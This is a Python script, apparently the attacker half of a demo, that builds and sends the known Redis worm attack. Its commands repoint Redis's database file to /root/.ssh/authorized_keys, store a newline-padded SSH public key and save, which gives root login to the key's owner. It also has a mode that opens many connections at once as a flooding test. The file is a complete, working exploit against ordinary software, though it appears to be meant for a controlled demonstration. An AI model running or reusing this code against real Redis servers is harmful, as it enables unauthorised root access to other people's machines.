#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""The intruder of the demo: what the redis worms did, and a burst of connections.

attack.py bytes    write the bytes of the attack to standard output
attack.py send     send them, in one piece, and print as JSON what came of it
attack.py burst N  open N connections at once, ping on each, close them

The attack turns redis into a pen: it makes root's SSH directory the place of the database file,
stores a public key with line ends around it, and has redis save. Whoever has the private key can
then log in as root. The bytes are the same each time.
"""

import errno
import json
import socket
import sys

from resp import PATIENCE, SERVER, encode

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBp98kSaWM4hodAL5taGnCnRGw5d2arZ/LbPXpujcWsM intruder@demo"

COMMANDS = (
    ("CONFIG", "SET", "dir", "/root/.ssh"),
    ("CONFIG", "SET", "dbfilename", "authorized_keys"),
    ("SET", "crackit", f"\n\n\n{KEY}\n\n\n"),
    ("SAVE",),
)


def attack():
    """The bytes of the attack."""
    return b"".join(encode(*words) for words in COMMANDS)


def send():
    """Sends them in one piece; gives the answers and how the connection ended."""
    result = {"bytes": len(attack()), "replies": [], "end": "answered"}
    with socket.create_connection(SERVER, PATIENCE) as sock:
        result["port"] = sock.getsockname()[1]
        received = b""
        try:
            sock.sendall(attack())
            # All answers are single lines.
            while received.count(b"\r\n") < len(COMMANDS):
                data = sock.recv(4096)
                if not data:
                    result["end"] = "closed"
                    break
                received += data
        except TimeoutError:
            result["end"] = "timeout"
        except OSError as error:
            result["end"] = errno.errorcode.get(error.errno, str(error))
        result["replies"] = received.decode("latin-1").split("\r\n")[:-1]
    return result


def burst(count):
    """Opens connections at once; each was accepted when its answer has come."""
    socks = []
    for _ in range(count):
        sock = socket.socket()
        sock.settimeout(PATIENCE)
        socks.append(sock)
    for sock in socks:
        sock.connect(SERVER)
    for sock in socks:
        sock.sendall(b"PING\r\n")
    answers = sum(sock.recv(16) == b"+PONG\r\n" for sock in socks)
    for sock in socks:
        sock.close()
    return {"connections": count, "answers": answers}


def main(args):
    """The command line."""
    match args:
        case ["bytes"]:
            sys.stdout.buffer.write(attack())
        case ["send"]:
            print(json.dumps(send()))
        case ["burst", count]:
            print(json.dumps(burst(int(count))))
        case _:
            sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
